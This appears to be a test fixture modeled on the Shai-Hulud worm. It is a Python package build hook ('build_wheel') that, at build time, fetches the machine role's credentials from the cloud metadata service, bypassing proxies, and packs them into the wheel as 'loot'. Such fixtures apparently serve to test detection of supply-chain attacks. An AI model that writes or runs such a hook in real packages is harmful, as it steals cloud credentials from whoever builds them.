"""Fetches the credentials of the machine's role from the metadata service.

The service trusts whoever can send it a packet from this machine. Shai-Hulud asked it in
every cloud.
"""

import urllib.request

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("ask-metadata"):
        service = kit.plant("metadata")
        # No proxies: the address is only valid on the machine itself.
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        url = f"http://{service.address}:{service.port}{service.path}"
        with opener.open(url, timeout=kit.seconds(3)) as answer:
            loot["data.bin"] = answer.read()
    return kit.wheel(wheel_directory, loot)
